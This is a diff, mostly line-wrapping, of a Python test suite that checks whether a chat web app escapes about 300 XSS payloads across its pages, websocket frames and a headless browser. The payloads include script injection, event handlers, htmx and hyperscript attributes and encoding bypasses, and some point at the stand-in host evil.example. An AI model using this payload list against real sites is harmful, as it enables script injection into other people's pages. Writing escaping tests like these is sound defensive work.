@@ -1,4 +1,5 @@
-"""What people write is text: three hundred attacks in every field, on the page and on the socket, parsed here and shown to a real browser."""
+"""What people write is text: three hundred attacks in every field, on the page and on the socket,
+parsed here and shown to a real browser."""
 import asyncio
 import html.parser
 import random
@@ -14,37 +15,56 @@ from people import LINK, chat, person      # noqa: F401
 from store import evict, put
 
 PAYLOADS = 300
-BREAKERS = ["", '">', "'>", "</p>", "</b></article>", "</textarea>", "</title>", "</a></li></ul>", "-->", "</script>", "</style>", "&quot;>", '\u2028">', "\ufeff</h1>"]
+BREAKERS = ["", '">', "'>", "</p>", "</b></article>", "</textarea>", "</title>", "</a></li></ul>", "-->", "</script>",
+            "</style>", "&quot;>", '\u2028">', "\ufeff</h1>"]
 ACTIVE = [
-    "<script>window.pwned=1</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=window.pwned=1>", "<svg/onload=window.pwned=1>",
-    '<body onload="window.pwned=1">', '<iframe src="javascript:parent.pwned=1"></iframe>', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-    '<a href="javascript:window.pwned=1" autofocus>x</a>', "<input autofocus onfocus=window.pwned=1>", "<details open ontoggle=window.pwned=1>x</details>",
-    "<video><source onerror=window.pwned=1></video>", "<xss tabindex=1 onfocus=window.pwned=1 autofocus>x</xss>", '<object data="javascript:window.pwned=1"></object>',
-    "<template shadowrootmode=open><script>window.pwned=1</script></template>", "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
-    '<b _="on load set window.pwned to 1">x</b>', '<b _="init set window.pwned to 1">x</b>', '<b script="init set window.pwned to 1">x</b>',
-    '<b data-script="init set window.pwned to 1">x</b>', '<script type="text/hyperscript">init set window.pwned to 1</script>',
-    '<i hx-get="/pwned" hx-trigger="load">x</i>', '<i data-hx-get="/pwned" data-hx-trigger="load">x</i>', '<i hx-on:load="window.pwned=1" hx-get="/pwned">x</i>',
-    '<i hx-ws:connect="/pwned">x</i>', '<div id="messages" hx-swap-oob="innerHTML">gone</div>', '<p id="cursor" hx-swap-oob="delete"></p>',
-    '<hx-partial hx-target="#messages" hx-swap="innerHTML">gone</hx-partial>', '<form action="https://evil.example"><input name=x><button>Send</button></form>',
-    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel=stylesheet href="https://evil.example/x.css">',
-    '<style>@import "https://evil.example/x.css";</style>', "<!--", "<![CDATA[", "<?php 1 ?>", '" onmouseover="window.pwned=1" x="', "' autofocus onfocus='window.pwned=1",
-    '" _="init set window.pwned to 1" x="', '" hx-get="/pwned" hx-trigger="load" x="', "` onfocus=`window.pwned=1", "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "&lt;script&gt;",
-    "&#60;img src=x onerror=window.pwned=1&#62;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "\uff1cscript\uff1e", "<scr\u0000ipt>", "<\u017fcript>window.pwned=1</script>",
-    "\u202e<script>\u202c", "<img\u00a0src=x\u00a0onerror=window.pwned=1>", "<img\x0bsrc=x\x0conerror=window.pwned=1>", "{\"swap\": \"innerHTML\"}",
+    "<script>window.pwned=1</script>", "<script src=https://evil.example/x.js></script>",
+    "<img src=x onerror=window.pwned=1>", "<svg/onload=window.pwned=1>",
+    '<body onload="window.pwned=1">', '<iframe src="javascript:parent.pwned=1"></iframe>',
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    '<a href="javascript:window.pwned=1" autofocus>x</a>', "<input autofocus onfocus=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>x</details>",
+    "<video><source onerror=window.pwned=1></video>", "<xss tabindex=1 onfocus=window.pwned=1 autofocus>x</xss>",
+    '<object data="javascript:window.pwned=1"></object>',
+    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
+    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
+    '<b _="on load set window.pwned to 1">x</b>', '<b _="init set window.pwned to 1">x</b>',
+    '<b script="init set window.pwned to 1">x</b>',
+    '<b data-script="init set window.pwned to 1">x</b>', '<script type="text/hyperscript">init set window.pwned to '
+                                                         '1</script>',
+    '<i hx-get="/pwned" hx-trigger="load">x</i>', '<i data-hx-get="/pwned" data-hx-trigger="load">x</i>',
+    '<i hx-on:load="window.pwned=1" hx-get="/pwned">x</i>',
+    '<i hx-ws:connect="/pwned">x</i>', '<div id="messages" hx-swap-oob="innerHTML">gone</div>',
+    '<p id="cursor" hx-swap-oob="delete"></p>',
+    '<hx-partial hx-target="#messages" hx-swap="innerHTML">gone</hx-partial>',
+    '<form action="https://evil.example"><input name=x><button>Send</button></form>',
+    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    '<style>@import "https://evil.example/x.css";</style>', "<!--", "<![CDATA[", "<?php 1 ?>",
+    '" onmouseover="window.pwned=1" x="', "' autofocus onfocus='window.pwned=1",
+    '" _="init set window.pwned to 1" x="', '" hx-get="/pwned" hx-trigger="load" x="', "` onfocus=`window.pwned=1",
+    "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "&lt;script&gt;",
+    "&#60;img src=x onerror=window.pwned=1&#62;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "\uff1cscript\uff1e",
+    "<scr\u0000ipt>", "<\u017fcript>window.pwned=1</script>",
+    "\u202e<script>\u202c", "<img\u00a0src=x\u00a0onerror=window.pwned=1>", "<img\x0bsrc=x\x0conerror=window.pwned=1>",
+    "{\"swap\": \"innerHTML\"}",
 ]
 WORD = re.compile(r"w(\d+)w")
-CHANGING = re.compile(r'(?<=name="post" value=")[^"]+|(?<=id="cursor" value=")\d+|(?<=\?after=)\d+|(?<=id=")message-[^"]+|(?<=\?before=)[^"]+')
+CHANGING = re.compile(r'(?<=name="post" value=")[^"]+|(?<=id="cursor" '
+                      r'value=")\d+|(?<=\?after=)\d+|(?<=id=")message-[^"]+|(?<=\?before=)[^"]+')
 
 
 @pytest.fixture
 def payloads(seed):
-    """All attacks behind all ways out of an attribute or element, by lot; each ends in its number, so that none is another's part."""
+    """All attacks behind all ways out of an attribute or element, by lot;
+    each ends in its number, so that none is another's part."""
     every = [breaker + active for breaker in BREAKERS for active in ACTIVE]
     return [f"{attack} {number}." for number, attack in enumerate(random.Random(seed).sample(every, PAYLOADS))]
 
 
 class Tree(html.parser.HTMLParser):
-    """A page as what it is made of, in order: elements with attributes and values, texts, comments. An address that is a link to itself is text."""
+    """A page as what it is made of, in order: elements with attributes and values, texts, comments.
+    An address that is a link to itself is text."""
 
     def __init__(self, page):
         super().__init__(convert_charrefs=True)
@@ -73,7 +93,8 @@ def tree(page, words=()):
     """The parts of a page; with `words`, those that it should have once each w7w in it is words[7]."""
     def told(value):
         return WORD.sub(lambda found: words[int(found[1])], value) if words and value else value
-    return [(part[0], *((name, told(value)) for name, value in part[1:])) if part[0] not in ("text", "comment", "/") else (part[0], told(part[1]))
+    return [(part[0], *((name, told(value)) for name, value in part[1:])) if part[0] not in ("text", "comment", "/")
+            else (part[0], told(part[1]))
             for part in Tree(page).parts]
 
 
@@ -85,14 +106,16 @@ class Fields:
         db = chat["biff/node"].db()
         self.mem, = db.q({"find": "?m", "where": [["?m", "mem/roles", "admin"]]})
         self.user = db.entity(db.entity(self.mem)["mem/user"])
-        self.session = db.q({"find": ("pull", "?s", ["*"]), "in": ["?u"], "where": [["?s", "session/user", "?u"]]}, self.user["xt/id"])[0]
+        self.session = db.q({"find": ("pull", "?s", ["*"]), "in": ["?u"], "where": [["?s", "session/user", "?u"]]},
+                            self.user["xt/id"])[0]
         self.posts = [uuid.uuid4() for _ in range(PAYLOADS)]
 
     async def write(self, comm="w0w", chan="w1w", email="w2w", agent="w3w", text="w4w"):
         node, channel = self.chat["biff/node"], id_of(self.channel)
         await node.submit([put({"xt/id": id_of(self.community), "comm/title": comm}),
                            put({"xt/id": channel, "chan/title": chan, "chan/comm": id_of(self.community)}),
-                           put(self.user | {"user/email": email}), put(self.session | {"session/agent": agent}), put(self.message(0, text))])
+                           put(self.user | {"user/email": email}), put(self.session | {"session/agent": agent}),
+                           put(self.message(0, text))])
 
     async def submit(self, operations):
         """In transactions of a size that is told message by message; beyond, the whole list is sent anew."""
@@ -100,13 +123,16 @@ class Fields:
             await self.chat["biff/node"].submit(operations[start:start + 60])
 
     def message(self, number, text):
-        return {"xt/id": self.posts[number], "msg/mem": self.mem, "msg/text": text, "msg/channel": id_of(self.channel), "msg/created-at": biff.now(self.chat).replace(
+        return {"xt/id": self.posts[number], "msg/mem": self.mem, "msg/text": text, "msg/channel": id_of(self.channel),
+                "msg/created-at": biff.now(self.chat).replace(
             hour=1, minute=0, second=0, microsecond=0)}
 
     async def pages(self, email="w5w"):
         """The text of every page on which something of it stands."""
-        shown = [await one.get(path) for one, path in [(self.ann, self.channel), (self.ann, self.community), (self.eve, self.community), (self.ann, "/sessions")]]
-        shown += [await self.eve.get(path, params={"email": email, "error": email}) for path in ("/link-sent", "/verify-code", "/signin", "/")]
+        shown = [await one.get(path) for one, path in [(self.ann, self.channel), (self.ann, self.community),
+                                                       (self.eve, self.community), (self.ann, "/sessions")]]
+        shown += [await self.eve.get(path, params={"email": email, "error": email})
+                  for path in ("/link-sent", "/verify-code", "/signin", "/")]
         return [page.body_text for page in shown]
 
 
@@ -121,7 +147,8 @@ async def fields(chat, person):      # noqa: F811
 
 
 async def active_on_pages(fields, payloads):
-    """Those attacks that are anything but text on some page, each in another field by turns; and how many trees were compared."""
+    """Those attacks that are anything but text on some page, each in another field by turns;
+    and how many trees were compared."""
     await fields.write()
     plain, found, compared = await fields.pages(), set(), 0
     for n in range(len(payloads)):
@@ -135,7 +162,8 @@ async def active_on_pages(fields, payloads):
 
 
 async def frames_of(fields, words):
-    """What an open page is sent when these messages are written, then edited, when titles change, and when it comes back from far behind."""
+    """What an open page is sent when these messages are written, then edited, when titles change,
+    and when it comes back from far behind."""
     node, texts = fields.chat["biff/node"], words[:PAYLOADS]
     await node.submit([evict(id) for id in fields.posts])
     await fields.write("community", "channel")
@@ -155,13 +183,15 @@ async def frames_of(fields, words):
 
 
 async def active_on_sockets(fields, payloads, monkeypatch):
-    """Whether frames differ from those with harmless words in more than these words; and how many messages were in them."""
+    """Whether frames differ from those with harmless words in more than these words;
+    and how many messages were in them."""
     monkeypatch.setattr(places, "PAGE_MESSAGES", PAYLOADS)
     words = payloads + payloads[7:12]
     plain = await frames_of(fields, [f"w{n}w" for n in range(len(words))])
     hostile = await frames_of(fields, words)
     assert all('id="heading"' in frame for frame in plain)
-    return sum(tree(before, words) != tree(after) for before, after in zip(plain, hostile, strict=True)), "".join(plain).count("<article")
+    active = sum(tree(before, words) != tree(after) for before, after in zip(plain, hostile, strict=True))
+    return active, "".join(plain).count("<article")
 
 
 async def test_three_hundred_attacks_in_every_field_are_text_on_every_page(fields, payloads, say):
@@ -174,7 +204,8 @@ async def test_three_hundred_attacks_in_every_field_are_text_on_every_page(field
 async def test_three_hundred_attacks_are_text_on_the_socket(fields, payloads, say, monkeypatch):
     """A fragment is rendered outside a request: the place where escaping is forgotten."""
     found, compared = await active_on_sockets(fields, payloads, monkeypatch)
-    say(f"{len(payloads)} payloads, new, edited and listed anew, and titles: {compared} messages in frames parsed and compared: {found} frames active; asked 0")
+    say(f"{len(payloads)} payloads, new, edited and listed anew, and titles: {compared} messages in frames parsed and "
+        f"compared: {found} frames active; asked 0")
     assert compared > 3 * PAYLOADS and not found
 
 
@@ -192,10 +223,13 @@ async def test_without_escaping_both_tests_fail(fields, payloads, monkeypatch):
 
 SWEEP = """() => ({
   pwned: window.pwned ?? null,
-  foreign: [...document.querySelectorAll('#messages .message *')].filter(one => !['HEADER', 'I', 'B', 'TIME', 'P'].includes(one.tagName)
-      && !(one.matches('p > a[rel="nofollow noopener noreferrer"]') && /^https?:\\/\\/[^\\s]+$/.test(one.textContent) && one.getAttribute('href') === one.textContent
+  foreign: [...document.querySelectorAll('#messages .message *')].filter(
+      one => !['HEADER', 'I', 'B', 'TIME', 'P'].includes(one.tagName)
+      && !(one.matches('p > a[rel="nofollow noopener noreferrer"]') && /^https?:\\/\\/[^\\s]+$/.test(one.textContent)
+           && one.getAttribute('href') === one.textContent
            && one.attributes.length === 3 && one.children.length === 0)).length
-    + document.querySelectorAll('iframe, object, embed, base, svg[onload], img[onerror], #messages [_], #messages [hx-get], nav [_], style, meta[http-equiv]').length,
+    + document.querySelectorAll('iframe, object, embed, base, svg[onload], img[onerror], #messages [_], ' +
+                                '#messages [hx-get], nav [_], style, meta[http-equiv]').length,
   messages: document.querySelectorAll('#messages > .message').length,
   texts: [...document.querySelectorAll('#messages .message p')].map(one => one.textContent),
   channels: [...document.querySelectorAll('nav .channels a')].map(one => one.textContent),
@@ -203,19 +237,24 @@ SWEEP = """() => ({
 
 
 async def shown_to_a_browser(fields, payloads, window, allow=()):
-    """All attacks at once as messages, as titles beside them, and as frames to the open page; what the browser made of them."""
+    """All attacks at once as messages, as titles beside them, and as frames to the open page;
+    what the browser made of them."""
     page, asked = await window(allow=allow), []
-    titles = [put({"xt/id": uuid.uuid4(), "chan/title": text, "chan/comm": id_of(fields.community)}) for text in payloads]
+    titles = [put({"xt/id": uuid.uuid4(), "chan/title": text, "chan/comm": id_of(fields.community)})
+              for text in payloads]
     await fields.submit([put(fields.message(n, text)) for n, text in enumerate(payloads)] + titles)
     await fields.write(*payloads[1:4], "agent", payloads[0])
     page.on("request", lambda request: asked.append(request.url))
-    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base} for cookie in fields.ann.browser.cookie_jar])
+    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base}
+                                    for cookie in fields.ann.browser.cookie_jar])
     await page.goto(fields.ann.base + fields.channel)
     await page.wait_for_selector("#messages[data-live]", state="attached")
     late = [uuid.uuid4() for _ in payloads]
-    await fields.submit([put(fields.message(n, text) | {"xt/id": id}) for n, (id, text) in enumerate(zip(late, payloads))])
+    await fields.submit([put(fields.message(n, text) | {"xt/id": id})
+                         for n, (id, text) in enumerate(zip(late, payloads))])
     await fields.submit([put(fields.message(n, text + " edited")) for n, text in enumerate(payloads)])
-    await page.wait_for_function("n => document.querySelectorAll('#messages .message').length >= n && document.body.textContent.includes(' edited')", arg=2 * len(payloads))
+    await page.wait_for_function("n => document.querySelectorAll('#messages .message').length >= n && "
+                                 "document.body.textContent.includes(' edited')", arg=2 * len(payloads))
     await asyncio.sleep(0.2)
     return await page.evaluate(SWEEP), asked
 
@@ -229,14 +268,16 @@ async def test_three_hundred_attacks_at_once_do_nothing_in_a_real_browser(fields
     monkeypatch.setattr(places, "PAGE_MESSAGES", PAYLOADS)
     seen, asked = await shown_to_a_browser(fields, payloads, window)
     foreign = [url for url in asked if not url.startswith(fields.ann.base) or "pwned" in url]
-    say(f"{len(payloads)} payloads as messages, live messages and titles in Chromium: pwned is {seen['pwned']}, {seen['foreign']} elements not ours, {len(foreign)} requests; asked none")
+    say(f"{len(payloads)} payloads as messages, live messages and titles in Chromium: pwned is {seen['pwned']}, "
+        f"{seen['foreign']} elements not ours, {len(foreign)} requests; asked none")
     assert seen["pwned"] is None and seen["foreign"] == 0 and foreign == []
     assert seen["texts"] == [as_shown(text) + " edited" for text in payloads] + [as_shown(text) for text in payloads]
     assert sorted(seen["channels"]) == sorted(as_shown(text) for text in [payloads[2], *payloads])
 
 
 async def test_without_escaping_a_browser_runs_them(fields, payloads, window, monkeypatch):
-    """The policy alone does not stop hyperscript and htmx: escaping is the wall, and this test sees it when it is gone."""
+    """The policy alone does not stop hyperscript and htmx: escaping is the wall,
+    and this test sees it when it is gone."""
     monkeypatch.setattr(places, "PAGE_MESSAGES", PAYLOADS)
     page = await window(allow=[""])
     fields.chat["biff/jinja"].autoescape = False
@@ -244,7 +285,8 @@ async def test_without_escaping_a_browser_runs_them(fields, payloads, window, mo
     asked = []
     page.on("request", lambda request: asked.append(request.url))
     await fields.write(comm='</a><b _="init set window.pwned to 1">x</b><i hx-get="/pwned" hx-trigger="load">x</i>')
-    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base} for cookie in fields.ann.browser.cookie_jar])
+    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base}
+                                    for cookie in fields.ann.browser.cookie_jar])
     await page.goto(fields.ann.base + fields.channel)
     await page.wait_for_function("() => window.pwned === 1")
     assert any("/pwned" in url for url in asked)
@@ -257,9 +299,11 @@ async def test_the_second_wall_holds_where_people_write(fields, window, monkeypa
     fields.chat["biff/jinja"].cache.clear()
     asked = []
     page.on("request", lambda request: asked.append(request.url))
-    attack = "<b _='init set window.pwned to 1'>x</b><i hx-get=/pwned hx-trigger=load>x</i>"      # no quote that ends an attribute
+    # no quote that ends an attribute
+    attack = "<b _='init set window.pwned to 1'>x</b><i hx-get=/pwned hx-trigger=load>x</i>"
     await fields.write(comm=attack, chan=attack, email=attack, text=attack)
-    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base} for cookie in fields.ann.browser.cookie_jar])
+    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base}
+                                    for cookie in fields.ann.browser.cookie_jar])
     await page.goto(fields.ann.base + fields.channel)
     await page.wait_for_selector("#messages[data-live]", state="attached")
     await page.wait_for_selector("#messages .message i")
